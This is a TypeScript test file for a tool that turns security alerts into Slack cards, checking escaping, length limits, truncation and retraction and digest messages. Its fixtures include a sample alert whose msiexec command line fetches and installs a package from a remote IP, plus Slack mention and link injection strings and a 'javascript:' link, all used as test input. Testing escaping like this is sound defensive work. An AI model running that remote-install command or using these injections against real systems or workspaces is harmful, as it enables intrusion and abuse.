import fc from "fast-check";
import { describe, expect, it } from "vitest";
import {
  buildDigestMessage, buildGuideReplies, buildRetractionMessage, buildSlackCard, retractionPlan, SLACK_LIMITS, type SlackMessage,
} from "../lib/deliver/slack-card.js";
import { BACKTICK_LOOKALIKE, ELLIPSIS, md, plainText, renderMd, truncateCodePoints } from "../lib/deliver/slack-escape.js";
import type { DeliveryMark } from "../lib/store/delivery-marks.js";
import type { Guide, GuideListItem, Inline, TriageResult } from "../lib/triage/result.js";
import { seedTriageResult, SEED_ALERT, setField, withEvents } from "./helpers/triage-fixture.js";

const INJECTIONS = ["<!channel>", "<!here>", "<@U123>", "<!subteam^S1>", "<https://evil.example|click>", "a & b", "<#C123|general>"];

/** Every text object of a message, with its kind and the limit it must keep. */
function texts(m: SlackMessage): { kind: "plain" | "mrkdwn"; text: string; max: number }[] {
  const out: { kind: "plain" | "mrkdwn"; text: string; max: number }[] = [{ kind: "mrkdwn", text: m.text, max: SLACK_LIMITS.fallbackText }];
  for (const b of m.blocks) {
    switch (b.type) {
      case "header":
        out.push({ kind: "plain", text: b.text.text, max: SLACK_LIMITS.headerText });
        break;
      case "section":
        if ("text" in b) out.push({ kind: "mrkdwn", text: b.text.text, max: SLACK_LIMITS.sectionText });
        else for (const f of b.fields) out.push({ kind: "mrkdwn", text: f.text, max: SLACK_LIMITS.fieldText });
        break;
      case "context":
        for (const e of b.elements) out.push({ kind: "mrkdwn", text: e.text, max: SLACK_LIMITS.fieldText });
        break;
      case "divider":
        break;
    }
  }
  return out;
}

const LONE_SURROGATE = /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/;

/**
 * Slack's limits and our formatting invariants: block and field counts, text lengths, no
 * `<`/`>`/`&` outside an entity (so no mention, channel or link markup at all: callers strip the
 * links they expect first), whole surrogate pairs, balanced code spans and code blocks.
 */
function checkMessage(m: SlackMessage, allowedLinks: readonly string[] = []): void {
  expect(m.blocks.length).toBeLessThanOrEqual(SLACK_LIMITS.blocksPerMessage);
  expect(m.link_names).toBe(false);
  expect(m.unfurl_links).toBe(false);
  expect(m.unfurl_media).toBe(false);
  for (const b of m.blocks) {
    if (b.type === "section" && "fields" in b) expect(b.fields.length).toBeLessThanOrEqual(SLACK_LIMITS.fieldsPerSection);
    if (b.type === "context") expect(b.elements.length).toBeLessThanOrEqual(SLACK_LIMITS.contextElements);
    if (b.type === "section" && "text" in b) expect(b.text.verbatim).toBe(true);
  }
  for (const t of texts(m)) {
    expect(t.text.length, t.text.slice(0, 200)).toBeLessThanOrEqual(t.max);
    expect(t.text.length).toBeGreaterThan(0);
    expect(LONE_SURROGATE.test(t.text), JSON.stringify(t.text.slice(0, 200))).toBe(false);
    expect(t.text).not.toMatch(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\u001B]/);
    let s = t.text;
    for (const link of allowedLinks) s = s.split(link).join("");
    if (t.kind === "plain") {
      expect(s).not.toMatch(/[<>]/);
      continue;
    }
    expect(s.replace(/&(amp|lt|gt);/g, "")).not.toMatch(/[&<>]/);
    const outsideBlocks = s.split("```").filter((_, i) => i % 2 === 0).join("");
    expect(s.split("```").length % 2, `unbalanced code block in ${s.slice(0, 200)}`).toBe(1);
    expect((outsideBlocks.match(/`/g) ?? []).length % 2, `unbalanced code span in ${s.slice(0, 300)}`).toBe(0);
  }
  const json = JSON.stringify(m);
  for (const bad of ["<!", "<@", "<#"]) expect(json).not.toContain(bad);
}

const SEED_LINK = "<https://attack.mitre.org/techniques/T1566/|T1566>";

describe("Slack triage card", () => {
  it("renders the seed alert: rule, severity, host, user, time, the timeline, verdicts, steps and queries", () => {
    const card = buildSlackCard(seedTriageResult());
    checkMessage(card);
    const all = JSON.stringify(card);
    expect(card.blocks[0]).toEqual({ type: "header", text: { type: "plain_text", text: ":large_yellow_circle: Potential Remote File Execution via MSIEXEC", emoji: true } });
    const mrkdwn = texts(card).map((t) => t.text).join("\n");
    expect(mrkdwn).toContain("*Severity*\nlow (risk 21)");
    expect(mrkdwn).toContain("*Host*\n`WIN-FIN-07`");
    expect(mrkdwn).toContain("*User*\n`CORP\\jdoe`");
    expect(mrkdwn).toContain("2026-11-20T09:12:00.000Z → 2026-11-20T09:12:06.500Z");
    expect(mrkdwn).toContain("*ATT&amp;CK*");
    // The sequence: msiexec with its command line, the connection with its verdict, the unsigned child.
    expect(mrkdwn).toContain("*1.* `09:12:00.000Z` process start · `msiexec.exe` (pid 6120)");
    expect(mrkdwn).toContain("command line `msiexec.exe /V /q /i http://185.220.101.45/update/KB5034441.msi`");
    expect(mrkdwn).toContain("signer `Microsoft Windows` (trusted)");
    expect(mrkdwn).toContain("to `185.220.101.45:80` (egress) · :red_circle: malicious (score 90)");
    expect(mrkdwn).toContain("parent `msiexec.exe` · signer *none* (unsigned)");
    expect(mrkdwn).toContain("`185.220.101.45` :red_circle: malicious (score 90) · tor-exits: listed in tor-exits; abuseipdb: abuse confidence 90%");
    // Five of six steps, nested bullet and a query reference kept; the sixth is counted.
    expect(mrkdwn).toContain("• Review the process start event for msiexec.exe");
    expect(mrkdwn).toContain("presence of the `/V` flag");
    expect(mrkdwn).toContain("    ◦ Query the process tree: query #1 (Child processes of msiexec)");
    expect(mrkdwn).toContain("*especially*");
    expect(mrkdwn).not.toContain("Correlate the alert");
    expect(mrkdwn).toContain("1 more step in the thread");
    expect(mrkdwn).toContain('```process.parent.entity_id : "attack-msiexec" and host.name : "WIN-FIN-07"```');
    expect(all).toContain("alert `0af20d25e578a6c91a50fd204496dd69`");
    expect(card.text).toBe("[LOW] Potential Remote File Execution via MSIEXEC | host WIN-FIN-07 | user CORP\\jdoe | verdict malicious");
  });

  it("marks a retracted result and a missing-event stage", () => {
    const r = seedTriageResult({ status: "retracted" });
    const card = buildSlackCard({ ...r, alert: { ...r.alert, events: [...r.alert.events, { missing: true }] } });
    checkMessage(card);
    const mrkdwn = texts(card).map((t) => t.text).join("\n");
    expect(mrkdwn).toContain("*Retracted*");
    expect(mrkdwn).toContain("*4.* _missing event_");
    expect(card.text.startsWith("[retracted] ")).toBe(true);
  });

  it("escapes mentions, channel and labelled links, and & in command lines, users, hosts and signers", () => {
    for (const bad of INJECTIONS) {
      const r = withEvents(seedTriageResult({ summary: `summary ${bad}` }), (e) => {
        setField(e, "process.command_line", `msiexec.exe /i ${bad}`);
        setField(e, "user.name", bad);
        setField(e, "user.domain", bad);
        setField(e, "host.name", bad);
        setField(e, "process.code_signature.subject_name", bad);
        setField(e, "process.parent.name", bad);
        setField(e, "event.action", bad);
      });
      const card = buildSlackCard(r);
      checkMessage(card);
      const escaped = bad.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;");
      const mrkdwn = texts(card).map((t) => t.text).join("\n");
      expect(mrkdwn).toContain(`\`msiexec.exe /i ${escaped}\``);
      expect(mrkdwn).toContain(`*Host*\n\`${escaped}\``);
      expect(mrkdwn).toContain(`signer \`${escaped}\``);
      expect(card.text).toContain(`host ${escaped}`);
      expect(card.text).toContain(`user ${escaped}\\${escaped}`);
      for (const m of [buildRetractionMessage(r, { threaded: false }), ...buildGuideReplies(r)]) checkMessage(m, [SEED_LINK]);
    }
  });

  it("keeps a backtick in event data from closing its code span", () => {
    const r = withEvents(seedTriageResult(), (e) => setField(e, "process.command_line", "a` <!channel> `*bold*` ```x```"));
    const card = buildSlackCard(r);
    checkMessage(card);
    const mrkdwn = texts(card).map((t) => t.text).join("\n");
    expect(mrkdwn).toContain(`\`a${BACKTICK_LOOKALIKE} &lt;!channel&gt; ${BACKTICK_LOOKALIKE}*bold*${BACKTICK_LOOKALIKE} ${BACKTICK_LOOKALIKE.repeat(3)}x${BACKTICK_LOOKALIKE.repeat(3)}\``);
  });

  it("stays within Slack's limits for huge input: 100 events, a 3 MB command line, hundreds of steps and queries", () => {
    const huge = "A&<".repeat(1_000_000); // 3 MB, every character escaped to several
    const events = Array.from({ length: 100 }, (_, i) => {
      const e = structuredClone(SEED_ALERT.events[i % 3]!) as Record<string, unknown>;
      setField(e, "process.command_line", huge);
      setField(e, "host.name", `host-${i}-${"h".repeat(5_000)}`);
      return e;
    });
    const item = (i: number): GuideListItem => ({
      inline: [{ type: "text", value: `step ${i} ${"x&".repeat(400)}` }, { type: "code", value: "`".repeat(50) }],
      children: [{ type: "list", ordered: true, items: [{ inline: [{ type: "text", value: "nested ".repeat(100) }], children: [] }] }],
    });
    const guide: Guide = { aiGenerated: false, sections: [{ kind: "investigation", title: "Steps", blocks: [{ type: "list", ordered: false, items: Array.from({ length: 500 }, (_, i) => item(i)) }] }] };
    const r = seedTriageResult({
      alert: { ...SEED_ALERT, rule: { ...SEED_ALERT.rule, name: "N".repeat(1_000) }, events, flags: Array.from({ length: 100 }, (_, i) => `flag-${i}`), group: { by: Array.from({ length: 50 }, () => "k".repeat(3_000)) } },
      summary: "S&".repeat(100_000),
      guide,
      queries: Array.from({ length: 60 }, (_, i) => ({ placeholder: `$investigate_${i}`, language: "kql" as const, label: `q${i}`, description: "d".repeat(5_000), query: "q&".repeat(50_000), unresolved: ["a", "b"] })),
      reputation: Array.from({ length: 300 }, (_, i) => ({ ip: `203.0.113.${i % 256}`, verdict: "suspicious" as const, score: 50, evidence: [{ provider: "p", status: "found" as const, verdict: "suspicious" as const, score: 50, detail: "d&".repeat(300), reason: null, cached: false }] })),
      verdict: { verdict: "suspicious", score: 50, reasons: Array.from({ length: 100 }, () => "r".repeat(1_000)) },
    });
    const started = Date.now();
    const card = buildSlackCard(r);
    checkMessage(card);
    expect(card.blocks[0]!.type).toBe("header");
    expect(JSON.stringify(card)).toContain("92 more events in the thread");
    expect(JSON.stringify(card)).toContain("495 more steps in the thread");
    expect(JSON.stringify(card)).toContain("57 more queries in the thread");
    expect(card.blocks.at(-1)!.type).toBe("context");
    const replies = buildGuideReplies(r, { maxMessages: 4 });
    expect(replies.length).toBe(4);
    for (const m of replies) checkMessage(m);
    expect(JSON.stringify(replies.at(-1))).toContain("The rest of the guide");
    expect(Date.now() - started).toBeLessThan(10_000);
  });

  it("splits the full guide into thread replies of at most 50 blocks", () => {
    const items = Array.from({ length: 1_000 }, (_, i): GuideListItem => ({ inline: [{ type: "text", value: `step ${i} ${"word ".repeat(60)}` }], children: [] }));
    const r = seedTriageResult({ guide: { aiGenerated: false, sections: [{ kind: "response", title: "Response", blocks: [{ type: "list", ordered: true, items }] }] } });
    const replies = buildGuideReplies(r, { maxMessages: 20 });
    expect(replies.length).toBeGreaterThan(1);
    for (const m of replies) checkMessage(m);
    const all = replies.map((m) => JSON.stringify(m)).join("");
    for (const i of [0, 499, 999]) expect(all).toContain(`${i + 1}. step ${i} `);
    expect(replies[0]!.text).toMatch(/^Investigation guide: Potential Remote File Execution via MSIEXEC \(1\/\d+\)$/);
    expect(buildGuideReplies(seedTriageResult({ guide: null, queries: [] }))).toEqual([]);
  });

  it("renders links only from the guide, with a plain http(s) URL", () => {
    const link = (url: string): Inline => ({ type: "link", url, children: [{ type: "text", value: "label" }] });
    const guide: Guide = {
      aiGenerated: false,
      sections: [{
        kind: "investigation", title: "Steps",
        blocks: [{ type: "paragraph", inline: [link("https://example.com/a?b=1&c=2"), link("javascript:alert(1)"), link("https://x.example|<!channel>"), link("https://x.example/ y")] }],
      }],
    };
    const card = buildSlackCard(seedTriageResult({ guide }));
    checkMessage(card, ["<https://example.com/a?b=1&amp;c=2|label>"]);
    const mrkdwn = texts(card).map((t) => t.text).join("\n");
    expect(mrkdwn).toContain("• <https://example.com/a?b=1&amp;c=2|label>labellabellabel");
  });

  it("holds for random strings in every event field (property)", () => {
    const nasty = fc.oneof(
      fc.string({ maxLength: 60 }),
      fc.string({ unit: "binary", maxLength: 60 }),
      fc.constantFrom(...INJECTIONS),
      fc.string({ unit: fc.constantFrom("<", ">", "&", "`", "*", "_", "~", "!", "@", "#", "|", "^", "\n", "\r", "\u001b", "\ud800", "\udc00", "😀", "a", " ", ":"), maxLength: 80 }),
    );
    const fields = [
      "@timestamp", "event.action", "host.name", "host.hostname", "user.name", "user.domain", "process.name", "process.pid", "process.command_line",
      "process.parent.name", "process.code_signature.subject_name", "process.code_signature.status", "destination.ip", "destination.port",
      "source.ip", "network.direction", "destination.domain", "file.path", "registry.path", "url.full",
    ];
    fc.assert(fc.property(fc.array(nasty, { minLength: fields.length + 6, maxLength: fields.length + 6 }), fc.array(fc.constantFrom("process", "network", "file", "registry", "dns"), { maxLength: 3 }), (values, categories) => {
      const r0 = withEvents(seedTriageResult(), (e) => {
        fields.forEach((f, i) => setField(e, f, values[i]));
        setField(e, "event.category", categories);
      });
      const r: TriageResult = {
        ...r0,
        summary: values[fields.length]!,
        alert: { ...r0.alert, group: { by: [values[fields.length + 1]!] }, flags: [values[fields.length + 2]!] },
        reputation: [{ ip: values[fields.length + 3]!, verdict: "malicious", score: 1, evidence: [{ provider: values[fields.length + 4]!, status: "found", verdict: "malicious", score: 1, detail: values[fields.length + 5]!, reason: null, cached: false }] }],
        verdict: { ...r0.verdict, reasons: [values[fields.length + 5]!] },
        queries: [{ ...r0.queries[0]!, query: values[fields.length + 3]!, unresolved: [values[fields.length + 4]!] }],
      };
      checkMessage(buildSlackCard(r));
      checkMessage(buildSlackCard(r, { commandLineChars: 16, maxTimelineEvents: 1 }));
      checkMessage(buildRetractionMessage(r, { threaded: false }));
      for (const m of buildGuideReplies(r)) checkMessage(m, [SEED_LINK]);
    }), { numRuns: 300 });
  });
});

describe("retraction and digest messages", () => {
  it("says which card a retraction is about when it cannot thread", () => {
    const r = seedTriageResult({ status: "retracted" });
    const flat = texts(buildRetractionMessage(r, { threaded: false })).map((t) => t.text).join("\n");
    expect(flat).toContain("*Alert retracted*: a later event invalidated the sequence of Potential Remote File Execution via MSIEXEC on `WIN-FIN-07`");
    const threaded = buildRetractionMessage(r, { threaded: true });
    expect(JSON.stringify(threaded.blocks)).not.toContain("WIN-FIN-07");
    expect(threaded.text).toBe("[retracted] Potential Remote File Execution via MSIEXEC | host WIN-FIN-07");
  });

  it("plans a retraction from the open delivery's mark", () => {
    const mark = (state: "leased" | "done", receipt: DeliveryMark["receipt"]): DeliveryMark => ({ state, owner: "o", leaseUntilMs: 0, attempts: 1, doneAtMs: null, receipt });
    expect(retractionPlan(null)).toEqual({ kind: "skip" });
    expect(retractionPlan(mark("leased", null))).toEqual({ kind: "wait" });
    expect(retractionPlan(mark("done", { mode: "digest" }))).toEqual({ kind: "skip" });
    expect(retractionPlan(mark("done", { mode: "card" }))).toEqual({ kind: "post", threadTs: null });
    expect(retractionPlan(mark("done", { mode: "card", ts: "1.2", channel: "C1" }))).toEqual({ kind: "post", threadTs: "1.2" });
  });

  it("summarises a storm window with sample hosts, escaped", () => {
    const m = buildDigestMessage({
      ruleId: "r1", window: 29_000_000, ruleName: "Rule <!here>", severity: "high", count: 42, limit: 10,
      windowStartMs: 1_740_000_000_000, windowEndMs: 1_740_000_060_000, sampleHosts: ["<!channel>", "h&2"], sampleAlertIds: ["a1", "a2"],
    });
    checkMessage(m);
    const flat = texts(m).map((t) => t.text).join("\n");
    expect(flat).toContain("*42* more alerts of Rule &lt;!here&gt; between 2025-02-19T21:20:00.000Z → 2025-02-19T21:21:00.000Z, beyond 10 cards per rule per window");
    expect(flat).toContain("`&lt;!channel&gt;`, `h&amp;2`");
    expect(m.text).toBe("42 more alerts of Rule &lt;!here&gt;");
    expect(m.blocks[0]).toMatchObject({ type: "header", text: { text: ":red_circle: 42 more alerts: Rule ‹!here›" } });
  });
});

describe("mrkdwn rendering and truncation", () => {
  it("never cuts an entity, and marks the cut", () => {
    for (let max = 1; max < 40; max++) {
      const out = renderMd([md.text("&&&&&&&&&&")], max);
      expect(out.length).toBeLessThanOrEqual(max);
      expect(out).toMatch(/^(&amp;)*…?$/);
    }
  });

  it("closes a cut code span, code block and wrap, and drops one that would be empty", () => {
    expect(renderMd([md.text("ab"), md.code("<<<<<<<<")], 12)).toBe("ab`&lt;`…");
    expect(renderMd([md.text("ab"), md.code("<<<<<<<<")], 8)).toBe("ab…");
    expect(renderMd([md.pre("line1\nline2 & more")], 16)).toBe("```line1\nlin```…");
    expect(renderMd([md.wrap("*", "*", [md.text("bold text here")])], 8)).toBe("*bold *…");
    expect(renderMd([md.wrap("<https://x.example|", ">", [md.text("a long label")])], 25)).toBe("<https://x.example|a lo>…");
    expect(renderMd([md.text("x"), md.wrap("<https://x.example|", ">", [md.text("a long label")])], 12)).toBe("x…");
    expect(renderMd([md.label("Host"), md.newline, md.code("h")], 100)).toBe("*Host*\n`h`");
  });

  it("never splits a surrogate pair", () => {
    for (let max = 1; max < 12; max++) {
      const out = renderMd([md.text("😀😀😀😀😀😀")], max);
      expect(LONE_SURROGATE.test(out)).toBe(false);
      expect(out.length).toBeLessThanOrEqual(max);
      expect(LONE_SURROGATE.test(truncateCodePoints("😀😀😀😀😀😀", max))).toBe(false);
      expect(LONE_SURROGATE.test(plainText("😀😀😀😀😀😀", max))).toBe(false);
    }
    expect(renderMd([md.text("a\ud800b")], 10)).toBe("a\uFFFDb");
  });

  it("keeps raw text on one line and strips control characters", () => {
    expect(renderMd([md.text("a\nb\r\tc\u001b[31m")], 100)).toBe("a b  c\uFFFD[31m");
    expect(renderMd([md.code("a\nb")], 100)).toBe("`a↵b`");
    expect(renderMd([md.pre("a\nb`")], 100)).toBe(`\`\`\`a\nb${BACKTICK_LOOKALIKE}\`\`\``);
    expect(plainText("Rule <!channel>\nnext", 150)).toBe("Rule ‹!channel› next");
    expect(ELLIPSIS).toBe("…");
  });
});
